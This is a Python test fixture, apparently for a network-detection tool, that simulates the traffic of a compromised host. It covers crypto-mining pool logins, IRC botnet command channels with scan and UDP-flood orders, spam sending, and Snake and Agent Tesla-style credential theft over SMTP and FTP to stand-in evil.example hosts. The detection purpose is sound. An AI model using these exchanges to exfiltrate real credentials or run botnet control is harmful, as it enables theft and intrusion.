"""Compromised: what it was taken over for."""
# ruff: noqa: E501 (what is said stands on one line)

from tests.situations.wire import OURS, RANDOM, STRANGER


def xmrig(wire):
    wire.asked(
        OURS,
        STRANGER,
        3333,
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4xxx","pass":"x","agent":"XMRig/6.2","algo":["rx/0"]}}\n',
        b'{"jsonrpc":"2.0","id":1,"error":null,"result":{"id":"a","job":{"blob":"00","job_id":"5","target":"b"},"status":"OK"}}\n',
        end=None,
    )


def ethminer(wire):
    wire.asked(
        OURS,
        STRANGER,
        4444,
        b'{"worker": "eth1.0", "jsonrpc": "2.0", "params": ["0x1234", "x"], "id": 2, "method": "eth_submitLogin"}\n',
        b'{"id":2,"jsonrpc":"2.0","result":true}\n',
        end=None,
    )


def stratum_btc(wire):
    wire.tcp(
        OURS,
        STRANGER,
        3333,
        [
            (">", b'{"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.10"]}\n'),
            ("<", b'{"id":1,"result":[[["mining.set_difficulty","1"]],"08",4],"error":null}\n'),
            (">", b'{"id":2,"method":"mining.authorize","params":["a.b","x"]}\n'),
        ],
        end=None,
    )


def irc_bot(wire):
    wire.tcp(
        OURS,
        STRANGER,
        6667,
        [
            (">", b"NICK [CHN|XP|P|00|19283]\r\nUSER XP-1928 * 0 :PC1\r\n"),
            ("<", b":irc.x 001 [CHN|XP|P|00|19283] :Welcome\r\n"),
            (">", b"JOIN #rbot s3cret\r\n"),
            ("<", b":irc.x 332 [CHN|XP|P|00|19283] #rbot :.advscan asn1smb 100 5 0 -r -s\r\n"),
            (">", b"PRIVMSG #rbot :[SCAN]: Random Port Scan started\r\n"),
        ],
        end=None,
    )


def irc_bot2(wire):
    wire.tcp(
        OURS,
        STRANGER,
        6667,
        [
            (">", b"NICK x86|b|8|12345\r\nUSER muh localhost localhost :muhstik\r\n"),
            ("<", b":irc.x 001 x :hi\r\n"),
            (">", b"JOIN #ex86 :8974\r\n"),
            ("<", b":op!a@b PRIVMSG #ex86 :!udp 1.2.3.4 80 60\r\n"),
        ],
        end=None,
    )


def spambot(wire):
    for i in range(25):
        d = f"{RANDOM.randbytes(3).hex()}.example.org"
        mx = f"198.51.{i}.25"
        ok = i % 3
        wire.tcp(
            OURS,
            mx,
            25,
            [
                ("<", b"220 mx ESMTP\r\n"),
                (
                    ">",
                    f"EHLO {RANDOM.choice(['PC-' + RANDOM.randbytes(2).hex(), '[1.2.3.4]', 'localhost', 'user'])}\r\n".encode(),
                ),
                ("<", b"250 mx\r\n"),
                (">", f"MAIL FROM:<{RANDOM.randbytes(3).hex()}@{d}>\r\n".encode()),
                ("<", b"250 ok\r\n" if ok else b"554 5.7.1 listed at spamhaus\r\n"),
                (">", b"RCPT TO:<a@b.example.net>\r\n"),
                ("<", b"250 ok\r\n" if ok else b"550 no\r\n"),
                (">", b"DATA\r\n"),
                ("<", b"354\r\n"),
                (">", b"Subject: Invoice\r\n\r\nhi\r\n.\r\n"),
                ("<", b"250 ok\r\n"),
                (">", b"QUIT\r\n"),
                ("<", b"221\r\n"),
            ],
        )


def snake_smtp(wire):
    wire.tcp(
        OURS,
        STRANGER,
        587,
        [
            ("<", b"220 m ESMTP\r\n"),
            (">", b"EHLO DESKTOP-1\r\n"),
            ("<", b"250-m\r\n250 AUTH LOGIN\r\n"),
            (">", b"AUTH login bG9nQGV2aWwuZXhhbXBsZQ==\r\n"),
            ("<", b"334 UGFzc3dvcmQ6\r\n"),
            (">", b"eHh4eA==\r\n"),
            ("<", b"235 ok\r\n"),
            (">", b"MAIL FROM:<log@evil.example>\r\n"),
            ("<", b"250\r\n"),
            (">", b"RCPT TO:<log@evil.example>\r\n"),
            ("<", b"250\r\n"),
            (">", b"DATA\r\n"),
            ("<", b"354\r\n"),
            (
                ">",
                b"From: log@evil.example\r\nTo: log@evil.example\r\nSubject: user / Passwords / 1.2.3.4\r\nContent-Type: text/plain\r\n\r\nPW | user | Snake\r\nPC Name:DESKTOP-1\r\nDate and Time: 3/4/2021\r\nClient IP: 1.2.3.4\r\n\r\nFound From: Chrome\r\nHost: https://x\r\nUSR: a\r\nPSW: b\r\n\r\n.\r\n",
            ),
            ("<", b"250 ok\r\n"),
        ],
    )


def agenttesla_ftp(wire):
    wire.tcp(
        OURS,
        STRANGER,
        21,
        [
            ("<", b"220 ftp\r\n"),
            (">", b"USER log@evil.example.org\r\n"),
            ("<", b"331\r\n"),
            (">", b"PASS x\r\n"),
            ("<", b"230 ok\r\n"),
            (">", b"TYPE I\r\n"),
            ("<", b"200\r\n"),
            (">", b"PASV\r\n"),
            ("<", b"227 Entering Passive Mode (203,0,113,77,200,10)\r\n"),
            (">", b"STOR PW_user-DESKTOP-1_2021_03_04_10_11_12.html\r\n"),
            ("<", b"150\r\n226\r\n"),
        ],
    )
    wire.tcp(
        OURS,
        STRANGER,
        51210,
        [
            (
                ">",
                b"<html>Time: 03/04/2021 10:11:12<br>User Name: user<br>Computer Name: DESKTOP-1<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Intel<br>RAM: 8191 MB<br><hr>URL: https://x<br>\r\nUsername: a<br>\r\nPassword: b<br>\r\nApplication: Chrome<br>\r\n<hr></html>",
            )
        ],
    )


def worm445(wire):
    for i in range(100):
        wire.tcp(OURS, f"10.1.{i // 250}.{i % 250 + 1}", 445, end="silent")


def mirai_scan(wire):
    for _i in range(300):
        wire.tcp(
            OURS,
            f"{RANDOM.randrange(11, 200)}.{RANDOM.randrange(1, 250)}.{RANDOM.randrange(1, 250)}.{RANDOM.randrange(1, 250)}",
            RANDOM.choice([23, 23, 23, 2323]),
            end="silent",
        )
